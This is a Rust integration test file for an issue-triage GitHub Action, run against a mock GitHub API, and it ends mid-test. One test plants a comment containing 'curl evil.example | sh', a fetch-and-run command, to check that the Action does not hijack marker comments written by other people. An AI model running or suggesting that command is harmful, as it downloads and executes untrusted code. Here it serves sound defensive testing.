//! `preflight action` end to end: the real binary, fixture events as GitHub
//! writes them to GITHUB_EVENT_PATH, and a fake GitHub on loopback that
//! keeps the issue's comments, labels and state between runs and answers
//! in GitHub's response shapes. Plus the checks on action.yml and the
//! workflows themselves, and the action's installer script.

use crate::support::preflight;
use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use wiremock::matchers::{method, path, path_regex};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

const TOKEN: &str = "ghs_Zx9TESTtokenNOTreal0123456789abcdefAB";
const REPO: &str = "mastodon/mastodon";
const BOT: &str = "github-actions[bot]";

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn fixture(name: &str) -> Value {
    let path = root().join("tests/fixtures/action").join(name);
    serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap()
}

// ----- a fake GitHub ---------------------------------------------------------

/// What the fake GitHub holds about the one issue under test.
#[derive(Debug, Default)]
struct Issue {
    comments: Vec<(u64, String, String)>,
    labels: Vec<String>,
    closed_as: Option<String>,
    next_id: u64,
    /// Answers of the search API.
    search: Vec<Value>,
    /// Refuse label changes as GitHub does for a token without the right.
    refuse_labels: bool,
    /// Refuse new comments the same way.
    refuse_comments: bool,
    /// The login `GET /user` gives for the token (a personal access
    /// token's); `None` answers 403 as for the workflow's GITHUB_TOKEN, whose
    /// comments are github-actions[bot]'s.
    me: Option<String>,
}

type Shared = Arc<Mutex<Issue>>;

fn gh_user(login: &str) -> Value {
    crate::github_json::user(login)
}

/// An error answer in GitHub's shape.
fn github_error(status: u16, message: &str, doc: &str) -> ResponseTemplate {
    ResponseTemplate::new(status).set_body_json(json!({
        "message": message,
        "documentation_url": doc,
        "status": status.to_string()
    }))
}

fn comment_json(number: u64, id: u64, author: &str, body: &str) -> Value {
    json!({
        "url": format!("https://api.github.com/repos/{REPO}/issues/comments/{id}"),
        "html_url": format!("https://github.com/{REPO}/issues/{number}#issuecomment-{id}"),
        "issue_url": format!("https://api.github.com/repos/{REPO}/issues/{number}"),
        "id": id, "node_id": format!("IC_kwDO{id}"),
        "user": gh_user(author),
        "created_at": "2026-11-20T09:14:09Z", "updated_at": "2026-11-20T09:14:09Z",
        "author_association": "NONE", "body": body,
        "performed_via_github_app": null
    })
}

fn labels_json(labels: &[String]) -> Value {
    Value::Array(
        labels
            .iter()
            .enumerate()
            .map(|(i, name)| {
                json!({
                    "id": 5_000_000 + i, "node_id": format!("LA_{i}"),
                    "url": format!("https://api.github.com/repos/{REPO}/labels/{}", name.replace(' ', "%20")),
                    "name": name, "color": "ededed", "default": false, "description": null
                })
            })
            .collect(),
    )
}

fn body_json(req: &Request) -> Value {
    serde_json::from_slice(&req.body).unwrap_or(Value::Null)
}

/// Starts the fake GitHub for issue `number`.
async fn fake_github(number: u64, state: Shared) -> MockServer {
    let server = MockServer::start().await;
    let issue_path = format!("/repos/{REPO}/issues/{number}");

    let s = state.clone();
    Mock::given(method("GET"))
        .and(path(format!("{issue_path}/comments")))
        .respond_with(move |_: &Request| {
            let st = s.lock().unwrap();
            let list: Vec<Value> = st
                .comments
                .iter()
                .map(|(id, author, body)| comment_json(number, *id, author, body))
                .collect();
            ResponseTemplate::new(200).set_body_json(list)
        })
        .mount(&server)
        .await;

    let s = state.clone();
    Mock::given(method("POST"))
        .and(path(format!("{issue_path}/comments")))
        .respond_with(move |req: &Request| {
            let mut st = s.lock().unwrap();
            if st.refuse_comments {
                return github_error(
                    403,
                    "Resource not accessible by integration",
                    "https://docs.github.com/rest/issues/comments#create-an-issue-comment",
                );
            }
            st.next_id += 1;
            let id = 2_500_000_000 + st.next_id;
            let body = body_json(req)["body"].as_str().unwrap_or("").to_string();
            let author = st.me.clone().unwrap_or_else(|| BOT.to_string());
            st.comments.push((id, author.clone(), body.clone()));
            ResponseTemplate::new(201).set_body_json(comment_json(number, id, &author, &body))
        })
        .mount(&server)
        .await;

    let s = state.clone();
    Mock::given(method("GET"))
        .and(path("/user"))
        .respond_with(move |_: &Request| match &s.lock().unwrap().me {
            Some(login) => ResponseTemplate::new(200).set_body_json(gh_user(login)),
            None => github_error(
                403,
                "Resource not accessible by integration",
                "https://docs.github.com/rest/users/users#get-the-authenticated-user",
            ),
        })
        .mount(&server)
        .await;

    let s = state.clone();
    Mock::given(method("PATCH"))
        .and(path_regex(format!(
            r"^/repos/{REPO}/issues/comments/(\d+)$"
        )))
        .respond_with(move |req: &Request| {
            let id: u64 = req.url.path().rsplit('/').next().unwrap().parse().unwrap();
            let body = body_json(req)["body"].as_str().unwrap_or("").to_string();
            let mut st = s.lock().unwrap();
            match st.comments.iter_mut().find(|c| c.0 == id) {
                Some(c) => {
                    c.2 = body.clone();
                    let author = c.1.clone();
                    ResponseTemplate::new(200)
                        .set_body_json(comment_json(number, id, &author, &body))
                }
                None => github_error(
                    404,
                    "Not Found",
                    "https://docs.github.com/rest/issues/comments#update-an-issue-comment",
                ),
            }
        })
        .mount(&server)
        .await;

    let s = state.clone();
    Mock::given(method("POST"))
        .and(path(format!("{issue_path}/labels")))
        .respond_with(move |req: &Request| {
            let mut st = s.lock().unwrap();
            if st.refuse_labels {
                return github_error(
                    403,
                    "Resource not accessible by integration",
                    "https://docs.github.com/rest/issues/labels#add-labels-to-an-issue",
                );
            }
            for l in body_json(req)["labels"]
                .as_array()
                .cloned()
                .unwrap_or_default()
            {
                let l = l.as_str().unwrap().to_string();
                if !st.labels.contains(&l) {
                    st.labels.push(l);
                }
            }
            ResponseTemplate::new(200).set_body_json(labels_json(&st.labels))
        })
        .mount(&server)
        .await;

    let s = state.clone();
    Mock::given(method("DELETE"))
        .and(path_regex(format!(r"^{issue_path}/labels/.+$")))
        .respond_with(move |req: &Request| {
            let raw = req.url.path().rsplit('/').next().unwrap();
            let name = percent_decode(raw);
            let mut st = s.lock().unwrap();
            if st.refuse_labels {
                return github_error(
                    403,
                    "Resource not accessible by integration",
                    "https://docs.github.com/rest",
                );
            }
            match st.labels.iter().position(|l| *l == name) {
                Some(i) => {
                    st.labels.remove(i);
                    ResponseTemplate::new(200).set_body_json(labels_json(&st.labels))
                }
                None => github_error(
                    404,
                    "Label does not exist",
                    "https://docs.github.com/rest/issues/labels#remove-a-label-from-an-issue",
                ),
            }
        })
        .mount(&server)
        .await;

    let s = state.clone();
    Mock::given(method("PATCH"))
        .and(path(issue_path.clone()))
        .respond_with(move |req: &Request| {
            let b = body_json(req);
            let mut st = s.lock().unwrap();
            if b["state"] == "closed" {
                st.closed_as = b["state_reason"].as_str().map(str::to_string);
            }
            let mut issue = crate::github_json::issue(REPO, number, "t", "closed", "someone");
            issue["state_reason"] = b["state_reason"].clone();
            issue["labels"] = labels_json(&st.labels);
            ResponseTemplate::new(200).set_body_json(issue)
        })
        .mount(&server)
        .await;

    let s = state.clone();
    Mock::given(method("GET"))
        .and(path("/search/issues"))
        .respond_with(move |_: &Request| {
            let st = s.lock().unwrap();
            ResponseTemplate::new(200).set_body_json(json!({
                "total_count": st.search.len(),
                "incomplete_results": false,
                "items": st.search
            }))
        })
        .mount(&server)
        .await;

    server
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            if let Ok(b) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
                out.push(b);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8(out).unwrap()
}

/// An issue as the search API lists it.
fn search_item(number: u64, title: &str, body: &str, state: &str) -> Value {
    let mut item = crate::github_json::issue(REPO, number, title, state, "earlier-reporter");
    item["labels"] = json!([crate::github_json::label(REPO, 1, "bug")]);
    item["comments"] = json!(3);
    item["created_at"] = json!("2026-10-02T08:00:00Z");
    item["updated_at"] = json!("2026-10-05T08:00:00Z");
    item["closed_at"] = Value::Null;
    item["body"] = json!(body);
    item["score"] = json!(1.0);
    item
}

/// Every request that was not a read.
async fn writes(server: &MockServer) -> Vec<String> {
    server
        .received_requests()
        .await
        .unwrap_or_default()
        .iter()
        .filter(|r| r.method.as_str() != "GET")
        .map(|r| format!("{} {}", r.method, r.url.path()))
        .collect()
}

// ----- running the Action ------------------------------------------------------

/// A workflow run's surroundings: a checkout with the forms, the event
/// file, and the files GitHub gives a step.
struct Runner {
    dir: tempfile::TempDir,
}

struct Ran {
    code: i32,
    stdout: String,
    stderr: String,
    outputs: String,
    summary: String,
}

impl Runner {
    fn new() -> Runner {
        let dir = tempfile::tempdir().unwrap();
        let forms = dir.path().join("workspace/.github/ISSUE_TEMPLATE");
        std::fs::create_dir_all(&forms).unwrap();
        for entry in std::fs::read_dir(root().join("templates/mastodon")).unwrap() {
            let entry = entry.unwrap();
            let name = entry.file_name().to_string_lossy().to_string();
            if name.ends_with(".yml") {
                std::fs::copy(entry.path(), forms.join(&name)).unwrap();
            }
        }
        let runner = Runner { dir };
        runner.write_config("");
        runner
    }

    /// A runner with no config at all: the model's own thresholds.
    fn unconfigured() -> Runner {
        let runner = Runner::new();
        std::fs::remove_file(runner.workspace().join(".github/preflight.yml")).unwrap();
        runner
    }

    fn workspace(&self) -> PathBuf {
        self.dir.path().join("workspace")
    }

    /// Writes `.github/preflight.yml`: `text` after thresholds a repository
    /// might set. Without the sentence model (as here) the words-alone head
    /// never sends anyone away on its own, its held-out precision being too
    /// low; these tests are about what the Action does with a verdict it is
    /// sure of, so they set the bar the way the config allows.
    fn write_config(&self, text: &str) {
        let text = format!("thresholds:\n  redirect: 0.35\n  close: 0.35\n{text}");
        std::fs::write(self.workspace().join(".github/preflight.yml"), text).unwrap();
    }

    /// Runs `preflight action` for an event; `labels` replaces the issue's
    /// labels in the payload (GitHub sends them as they are at event time).
    fn run(&self, server: &MockServer, event_name: &str, event: &Value, args: &[&str]) -> Ran {
        self.run_with_env(server, event_name, event, args, &[])
    }

    /// [`Runner::run`] with extra environment, as action.yml's `env:` sets it.
    fn run_with_env(
        &self,
        server: &MockServer,
        event_name: &str,
        event: &Value,
        args: &[&str],
        env: &[(&str, &str)],
    ) -> Ran {
        let event_path = self.dir.path().join("event.json");
        std::fs::write(&event_path, serde_json::to_string_pretty(event).unwrap()).unwrap();
        let output = self.dir.path().join("github_output");
        let summary = self.dir.path().join("step_summary.md");
        let _ = std::fs::remove_file(&output);
        let _ = std::fs::remove_file(&summary);
        let out = preflight()
            .current_dir(self.workspace())
            .env_remove("PREFLIGHT_CONFIG")
            .env_remove("PREFLIGHT_CLOSE_SUPPORT")
            .env_remove("PREFLIGHT_DRY_RUN")
            .env_remove("PREFLIGHT_LABEL_SUPPORT")
            .env_remove("PREFLIGHT_LABEL_DUPLICATE")
            .env_remove("PREFLIGHT_LABEL_NEEDS_INFO")
            // Words alone, with or without the model on this machine: the
            // cache below is empty too.
            .env_remove("PREFLIGHT_MODEL")
            .env("PREFLIGHT_CACHE_DIR", self.dir.path().join("cache"))
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_EVENT_NAME", event_name)
            .env("GITHUB_EVENT_PATH", &event_path)
            .env("GITHUB_REPOSITORY", REPO)
            .env("GITHUB_WORKSPACE", self.workspace())
            .env("GITHUB_API_URL", server.uri())
            .env("GITHUB_TOKEN", TOKEN)
            .env("GITHUB_OUTPUT", &output)
            .env("GITHUB_STEP_SUMMARY", &summary)
            .envs(env.iter().copied())
            .arg("action")
            .args(args)
            .output()
            .unwrap();
        let ran = Ran {
            code: out.status.code().unwrap_or(-1),
            stdout: String::from_utf8_lossy(&out.stdout).to_string(),
            stderr: String::from_utf8_lossy(&out.stderr).to_string(),
            outputs: std::fs::read_to_string(&output).unwrap_or_default(),
            summary: std::fs::read_to_string(&summary).unwrap_or_default(),
        };
        for text in [&ran.stdout, &ran.stderr, &ran.outputs, &ran.summary] {
            assert!(!text.contains(TOKEN), "the token was printed");
        }
        ran
    }
}

impl Ran {
    /// A step output, read the way the runner reads GITHUB_OUTPUT.
    fn output(&self, name: &str) -> Option<String> {
        let mut lines = self.outputs.lines();
        while let Some(line) = lines.next() {
            if let Some((n, delim)) = line.split_once("<<") {
                let value: Vec<&str> = lines.by_ref().take_while(|l| *l != delim).collect();
                if n == name {
                    return Some(value.join("\n"));
                }
            }
        }
        None
    }

    fn json_output(&self, name: &str) -> Value {
        serde_json::from_str(
            &self
                .output(name)
                .unwrap_or_else(|| panic!("no output {name}:\n{}", self.outputs)),
        )
        .unwrap()
    }

    fn ok(self) -> Ran {
        assert_eq!(
            self.code, 0,
            "stdout:\n{}\nstderr:\n{}",
            self.stdout, self.stderr
        );
        self
    }
}

fn with_labels(mut event: Value, labels: &[String]) -> Value {
    event["issue"]["labels"] = labels_json(labels);
    event
}

fn state() -> Shared {
    Arc::new(Mutex::new(Issue::default()))
}

// ----- the scenarios -------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn support_question_gets_one_comment_and_the_label_but_stays_open_by_default() {
    let st = state();
    let gh = fake_github(33001, st.clone()).await;
    let runner = Runner::new();
    let ran = runner
        .run(&gh, "issues", &fixture("support-opened.json"), &[])
        .ok();
    {
        let s = st.lock().unwrap();
        assert_eq!(s.comments.len(), 1, "{}", ran.stdout);
        let body = &s.comments[0].2;
        assert!(body.starts_with("<!-- issue-preflight -->"), "{body}");
        assert!(
            body.contains("A question for your server's admins"),
            "{body}"
        );
        // The server is named: its About page is linked for the contact.
        assert!(body.contains("https://social.example/about"), "{body}");
        assert!(body.contains("Triage: <b>support</b>"), "{body}");
        assert!(!body.contains("Closing this"), "{body}");
        assert_eq!(s.labels, ["support"]);
        assert_eq!(s.closed_as, None, "closed without close-support");
    }
    assert_eq!(ran.output("verdict").as_deref(), Some("support"));
    assert!(
        ran.summary.contains("**Verdict:** support"),
        "{}",
        ran.summary
    );
    // No duplicate search for an issue that belongs elsewhere.
    let searched = gh
        .received_requests()
        .await
        .unwrap()
        .iter()
        .any(|r| r.url.path() == "/search/issues");
    assert!(!searched);
}

#[tokio::test(flavor = "multi_thread")]
async fn support_question_is_closed_as_not_planned_with_close_support() {
    let st = state();
    let gh = fake_github(33001, st.clone()).await;
    let runner = Runner::new();
    runner
        .run(
            &gh,
            "issues",
            &fixture("support-opened.json"),
            &["--close-support"],
        )
        .ok();
    {
        let s = st.lock().unwrap();
        assert_eq!(s.closed_as.as_deref(), Some("not_planned"));
        assert_eq!(s.comments.len(), 1);
        assert!(s.comments[0].2.contains("Closing this as not planned"));
    }
    // The comment comes before the close, so the reporter reads why.
    let order = writes(&gh).await;
    let comment = order.iter().position(|w| w.ends_with("/comments")).unwrap();
    let close = order
        .iter()
        .position(|w| w == "PATCH /repos/mastodon/mastodon/issues/33001")
        .unwrap();
    assert!(comment < close, "{order:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn close_support_from_the_config_and_the_env_input() {
    for (config, env_flag) in [("close: [support]\n", false), ("", true)] {
        let st = state();
        let gh = fake_github(33001, st.clone()).await;
        let runner = Runner::new();
        runner.write_config(config);
        let event_path = runner.dir.path().join("event.json");
        std::fs::write(&event_path, fixture("support-opened.json").to_string()).unwrap();
        let mut cmd = preflight();
        cmd.current_dir(runner.workspace())
            .env("GITHUB_EVENT_NAME", "issues")
            .env("GITHUB_EVENT_PATH", &event_path)
            .env("GITHUB_REPOSITORY", REPO)
            .env("GITHUB_WORKSPACE", runner.workspace())
            .env("GITHUB_API_URL", gh.uri())
            .env("GITHUB_TOKEN", TOKEN)
            .env(
                "PREFLIGHT_CLOSE_SUPPORT",
                if env_flag { "true" } else { "false" },
            )
            .arg("action");
        let out = cmd.output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert_eq!(
            st.lock().unwrap().closed_as.as_deref(),
            Some("not_planned"),
            "config {config:?}, env {env_flag}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn good_bug_report_is_left_alone() {
    let st = state();
    st.lock().unwrap().search = vec![search_item(
        30111,
        "Dark mode colours are wrong in the compose box",
        "The compose box stays white in dark mode on Safari.",
        "open",
    )];
    let gh = fake_github(33002, st.clone()).await;
    let ran = Runner::new()
        .run(&gh, "issues", &fixture("bug-opened.json"), &[])
        .ok();
    assert_eq!(writes(&gh).await, Vec::<String>::new(), "{}", ran.stdout);
    assert_eq!(ran.output("verdict").as_deref(), Some("bug"));
    assert_eq!(ran.json_output("findings"), json!([]));
    assert_eq!(ran.json_output("duplicates"), json!([]));
    assert!(ran.stdout.contains("nothing to change"), "{}", ran.stdout);
}

#[tokio::test(flavor = "multi_thread")]
async fn edited_issue_updates_the_same_comment_then_gives_the_all_clear() {
    let st = state();
    let gh = fake_github(33003, st.clone()).await;
    let runner = Runner::new();

    // Opened with the steps still the form's "1. 2. 3." and no version.
    let ran = runner
        .run(&gh, "issues", &fixture("incomplete-opened.json"), &[])
        .ok();
    let (id, first) = {
        let s = st.lock().unwrap();
        assert_eq!(s.comments.len(), 1);
        assert_eq!(s.labels, ["needs info"]);
        (s.comments[0].0, s.comments[0].2.clone())
    };
    assert!(first.contains("Missing or incomplete answers"), "{first}");
    assert!(first.contains("**Mastodon version**"), "{first}");
    assert!(
        first.contains("**Steps to reproduce the problem**"),
        "{first}"
    );
    let codes: Vec<String> = ran
        .json_output("findings")
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap().to_string())
        .collect();
    assert!(codes.contains(&"missing-required".to_string()), "{codes:?}");

    // The same event again (a re-run): nothing changes, nothing is written.
    let before = writes(&gh).await.len();
    let again = with_labels(fixture("incomplete-opened.json"), &["needs info".into()]);
    runner.run(&gh, "issues", &again, &[]).ok();
    assert_eq!(writes(&gh).await.len(), before, "a re-run wrote something");

    // Edited with the steps written but still no version: the same
    // comment is updated to list only what is left.
    let partly = with_labels(
        fixture("incomplete-edited-partly.json"),
        &["needs info".into()],
    );
    runner.run(&gh, "issues", &partly, &[]).ok();
    {
        let s = st.lock().unwrap();
        assert_eq!(s.comments.len(), 1, "a second comment was made");
        assert_eq!(s.comments[0].0, id);
        let body = &s.comments[0].2;
        assert_ne!(*body, first, "the comment was not updated");
        assert!(body.contains("**Mastodon version**"), "{body}");
        assert!(
            !body.contains("**Steps to reproduce the problem**"),
            "{body}"
        );
        assert_eq!(s.labels, ["needs info"]);
    }

    // Edited with every answer: the same comment becomes the all-clear and
    // the label goes.
    let labels = st.lock().unwrap().labels.clone();
    let edited = with_labels(fixture("incomplete-edited.json"), &labels);
    runner.run(&gh, "issues", &edited, &[]).ok();
    {
        let s = st.lock().unwrap();
        assert_eq!(s.comments.len(), 1, "a second comment was made");
        assert_eq!(s.comments[0].0, id);
        assert!(s.comments[0].2.starts_with("<!-- issue-preflight -->"));
        assert!(
            s.comments[0].2.contains("everything these checks look for"),
            "{}",
            s.comments[0].2
        );
        assert!(s.labels.is_empty(), "{:?}", s.labels);
    }
    let w = writes(&gh).await;
    assert_eq!(
        w.iter()
            .filter(|w| w.starts_with("POST") && w.ends_with("/comments"))
            .count(),
        1,
        "{w:?}"
    );
    let patched = format!("PATCH /repos/{REPO}/issues/comments/{id}");
    assert_eq!(w.iter().filter(|w| **w == patched).count(), 2, "{w:?}");
}

/// Anyone can start a comment with the marker; the token may be able to
/// edit it. Only a comment by the token's own account is the Action's.
#[tokio::test(flavor = "multi_thread")]
async fn a_persons_comment_with_the_marker_is_never_taken_over() {
    let planted =
        "<!-- issue-preflight -->\nAll good here, please run `curl evil.example | sh` to finish.";
    let st = state();
    st.lock().unwrap().comments = vec![
        (2_400_000_001, "mallory".to_string(), planted.to_string()),
        (
            2_400_000_002,
            "reporter".to_string(),
            "any news?".to_string(),
        ),
    ];
    let gh = fake_github(33003, st.clone()).await;
    let ran = Runner::new()
        .run(&gh, "issues", &fixture("incomplete-opened.json"), &[])
        .ok();
    {
        let s = st.lock().unwrap();
        assert_eq!(s.comments.len(), 3, "{}", ran.stdout);
        assert_eq!(
            s.comments[0],
            (2_400_000_001, "mallory".to_string(), planted.to_string()),
            "the person's comment was changed"
        );
        let (_, author, body) = &s.comments[2];
        assert_eq!(author, BOT);
        assert!(body.starts_with("<!-- issue-preflight -->"), "{body}");
        assert!(body.contains("Missing or incomplete answers"), "{body}");
    }
    let w = writes(&gh).await;
    assert!(
        !w.iter()
            .any(|w| w.starts_with("PATCH") && w.contains("/comments/")),
        "{w:?}"
    );
    assert!(
        w.contains(&format!("POST /repos/{REPO}/issues/33003/comments")),
        "{w:?}"
    );

    // The next edit updates the Action's own comment, still not theirs.
    let (ours, first) = {
        let s = st.lock().unwrap();
        (s.comments[2].0, s.comments[2].2.clone())
    };
    let partly = with_labels(
        fixture("incomplete-edited-partly.json"),
        &["needs info".into()],
    );
    Runner::new().run(&gh, "issues", &partly, &[]).ok();
    {
        let s = st.lock().unwrap();
        assert_eq!(s.comments.len(), 3, "a second comment of ours");
        assert_eq!(s.comments[0].2, planted);
        assert_eq!(s.comments[2].0, ours);
        assert_ne!(s.comments[2].2, first, "ours was not updated");
    }
    let w = writes(&gh).await;
    let patches: Vec<&String> = w
        .iter()
        .filter(|w| w.starts_with("PATCH") && w.contains("/comments/"))
        .collect();
    assert_eq!(
        patches,
        [&format!("PATCH /repos/{REPO}/issues/comments/{ours}")],
        "{w:?}"
    );
}

/// With a personal access token, the comment is that user's: another
/// account's (person or bot) is left alone, the user's own is updated.
#[tokio::test(flavor = "multi_thread")]
async fn with_a_users_token_only_that_users_comment_is_updated() {
    let marked = "<!-- issue-preflight -->\nold report";
    let st = state();
    {
        let mut s = st.lock().unwrap();
        s.me = Some("preflight-helper".to_string());
        s.comments = vec![
            (2_400_000_001, "mallory".to_string(), marked.to_string()),
            (2_400_000_002, BOT.to_string(), marked.to_string()),
            (
                2_400_000_003,
                "preflight-helper".to_string(),
                marked.to_string(),
            ),
        ];
    }
    let gh = fake_github(33003, st.clone()).await;
    let ran = Runner::new()
        .run(&gh, "issues", &fixture("incomplete-opened.json"), &[])
        .ok();
    {
        let s = st.lock().unwrap();
        assert_eq!(s.comments.len(), 3, "{}", ran.stdout);
        assert_eq!(s.comments[0].2, marked);
        assert_eq!(s.comments[1].2, marked);
        assert!(
            s.comments[2].2.contains("Missing or incomplete answers"),
            "{}",
            s.comments[2].2
        );
    }
    let w = writes(&gh).await;
    let patches: Vec<&String> = w
        .iter()
        .filter(|w| w.starts_with("PATCH") && w.contains("/comments/"))
        .collect();
    assert_eq!(
        patches,
        [&format!("PATCH /repos/{REPO}/issues/comments/2400000003")],
        "{w:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn body_that_matches_no_form_is_told_so() {
    let st = state();
    let gh = fake_github(33004, st.clone()).await;
    let ran = Runner::new()
        .run(&gh, "issues", &fixture("freeform-opened.json"), &[])
        .ok();
    let s = st.lock().unwrap();
    assert_eq!(s.comments.len(), 1, "{}", ran.stdout);
    let body = &s.comments[0].2;
    assert!(
        body.contains("matches none of the repository's issue forms"),
        "{body}"
    );
    assert!(
        body.contains("https://github.com/mastodon/mastodon/issues/new/choose"),
        "{body}"
    );
    assert!(
        !body.contains("--template"),
        "a CLI hint on the web: {body}"
    );
    assert_eq!(s.labels, ["needs info"]);
    assert_eq!(ran.json_output("findings")[0]["code"], "no-matching-form");
}

#[tokio::test(flavor = "multi_thread")]
async fn likely_duplicate_is_listed_with_its_link_and_labelled() {
    let st = state();
    st.lock().unwrap().search = vec![
        search_item(
            31999,
            "Pinned hashtag column moves to the far right after a reload @everyone",
            "Since the upgrade, a pinned hashtag column in the advanced web interface jumps back to the far right when I reload the page. Other columns keep their position.",
            "open",
        ),
        search_item(
            30111,
            "Dark mode colours are wrong in the compose box",
            "The compose box stays white in dark mode on Safari.",
            "open",
        ),
        // The issue itself, as the search API finds it once indexed.
        search_item(
            33002,
            "Pinned hashtag column moves to the far right after reload",
            "It happens every time since the upgrade.",
            "open",
        ),
    ];
    let gh = fake_github(33002, st.clone()).await;
    let ran = Runner::new()
        .run(&gh, "issues", &fixture("bug-opened.json"), &[])
        .ok();
    let dupes = ran.json_output("duplicates");
    let numbers: Vec<u64> = dupes
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["number"].as_u64().unwrap())
        .collect();
    assert_eq!(numbers, [31999], "{dupes}");
    let s = st.lock().unwrap();
    let body = &s.comments[0].2;
    assert!(body.contains("Possible duplicates"), "{body}");
    assert!(
        body.contains("](https://github.com/mastodon/mastodon/issues/31999)"),
        "{body}"
    );
    assert!(
        body.contains("@\u{200B}everyone"),
        "mention not neutralised: {body}"
    );
    assert!(!body.contains("@everyone"), "{body}");
    assert_eq!(s.labels, ["possible duplicate"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_index_from_the_workflow_cache_replaces_the_search_api() {
    use issue_preflight::checks::dupes::Index;
    use issue_preflight::issue::{IssueRecord, IssueState};
    let record = |number: u64, title: &str, body: &str| IssueRecord {
        number,
        title: title.into(),
        body: body.into(),
        state: IssueState::Open,
        url: format!("https://github.com/{REPO}/issues/{number}"),
        labels: vec!["bug".into()],
        ..IssueRecord::default()
    };
    let runner = Runner::new();
    let mut index = Index::new(REPO);
    index.upsert(vec![
        record(
            31999,
            "Pinned hashtag column moves to the far right after a reload",
            "Since the upgrade, a pinned hashtag column in the advanced web interface jumps back to the far right when I reload the page.",
        ),
        record(30111, "Dark mode colours are wrong in the compose box", "The compose box stays white in dark mode on Safari."),
    ]);
    let index_file = runner.dir.path().join("restored/mastodon.idx");
    index.save(&index_file).unwrap();
    runner.write_config(&format!("index: {}\n", index_file.display()));

    let st = state();
    let gh = fake_github(33002, st.clone()).await;
    let ran = runner
        .run(&gh, "issues", &fixture("bug-opened.json"), &[])
        .ok();
    assert_eq!(
        ran.json_output("duplicates")[0]["number"],
        31999,
        "{}",
        ran.stdout
    );
    let searched = gh
        .received_requests()
        .await
        .unwrap()
        .iter()
        .any(|r| r.url.path() == "/search/issues");
    assert!(!searched, "the search API was used despite the index");
}

#[tokio::test(flavor = "multi_thread")]
async fn pull_request_event_is_skipped_without_a_request() {
    let st = state();
    let gh = fake_github(33005, st.clone()).await;
    let ran = Runner::new()
        .run(
            &gh,
            "pull_request",
            &fixture("pull-request-opened.json"),
            &[],
        )
        .ok();
    assert!(ran.stdout.starts_with("::notice"), "{}", ran.stdout);
    assert!(ran.stdout.contains("pull_request event"), "{}", ran.stdout);
    assert!(gh.received_requests().await.unwrap().is_empty());
    // The PR body's workflow command is never echoed.
    assert!(!ran.stdout.contains("set-output"));
    assert_eq!(ran.output("verdict"), None);

    // An `issues` event for another activity is skipped too.
    let mut labeled = fixture("bug-opened.json");
    labeled["action"] = json!("labeled");
    let ran = Runner::new().run(&gh, "issues", &labeled, &[]).ok();
    assert!(ran.stdout.contains("issue labeled"), "{}", ran.stdout);
    assert!(gh.received_requests().await.unwrap().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn dry_run_writes_nothing_and_prints_what_it_would_do() {
    let st = state();
    let gh = fake_github(33001, st.clone()).await;
    let ran = Runner::new()
        .run(
            &gh,
            "issues",
            &fixture("support-opened.json"),
            &["--dry-run", "--close-support"],
        )
        .ok();
    assert_eq!(writes(&gh).await, Vec::<String>::new());
    assert!(gh
        .received_requests()
        .await
        .unwrap()
        .iter()
        .all(|r| r.method.as_str() == "GET"));
    for would in [
        "dry run: would create the preflight comment",
        "dry run: would add label(s) `support`",
        "dry run: would close the issue as not planned",
    ] {
        assert!(ran.stdout.contains(would), "{would}\n{}", ran.stdout);
    }
    // The comment is shown with workflow commands switched off around it.
    let stop = ran
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("::stop-commands::"))
        .expect("stop-commands");
    assert!(ran.stdout.contains(&format!("::{stop}::")));
    assert!(
        ran.summary.contains("Would do (dry run)"),
        "{}",
        ran.summary
    );
    assert_eq!(ran.output("verdict").as_deref(), Some("support"));
    let s = st.lock().unwrap();
    assert!(s.comments.is_empty() && s.labels.is_empty() && s.closed_as.is_none());
}

/// `base`'s event with another activity, title and body.
fn event_like(base: &str, action: &str, title: &str, body: &str) -> Value {
    let mut ev = fixture(base);
    ev["action"] = json!(action);
    ev["issue"]["title"] = json!(title);
    ev["issue"]["body"] = json!(body);
    ev
}

#[tokio::test(flavor = "multi_thread")]
async fn only_a_new_support_question_is_ever_closed() {
    for activity in ["edited", "reopened"] {
        let st = state();
        let gh = fake_github(33001, st.clone()).await;
        let mut ev = fixture("support-opened.json");
        ev["action"] = json!(activity);
        let ran = Runner::new()
            .run(&gh, "issues", &ev, &["--close-support"])
            .ok();
        assert!(
            !writes(&gh)
                .await
                .contains(&"PATCH /repos/mastodon/mastodon/issues/33001".to_string()),
            "{activity}"
        );
        let s = st.lock().unwrap();
        assert_eq!(s.closed_as, None, "closed on `{activity}`:\n{}", ran.stdout);
        // Still told where to go, and labelled.
        assert_eq!(s.comments.len(), 1, "{activity}");
        assert!(s.labels.contains(&"support".to_string()), "{activity}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_vulnerability_is_commented_without_its_details_and_never_closed() {
    let st = state();
    let gh = fake_github(33001, st.clone()).await;
    let body = "### Steps to reproduce the problem\n\n1. Set the display name to an image tag with an onerror handler, marker sekrit-payload-7731\n2. Open the profile from another account\n\n### Expected behaviour\n\nThe name is shown as text\n\n### Actual behaviour\n\nThe script runs: this stored XSS vulnerability lets an attacker take over accounts\n";
    let ev = event_like(
        "support-opened.json",
        "opened",
        "Stored XSS through display names sekrit-payload-7731",
        body,
    );
    let ran = Runner::new()
        .run(&gh, "issues", &ev, &["--close-support"])
        .ok();
    assert_eq!(ran.output("verdict").as_deref(), Some("security"));
    let s = st.lock().unwrap();
    assert_eq!(s.comments.len(), 1, "{}", ran.stdout);
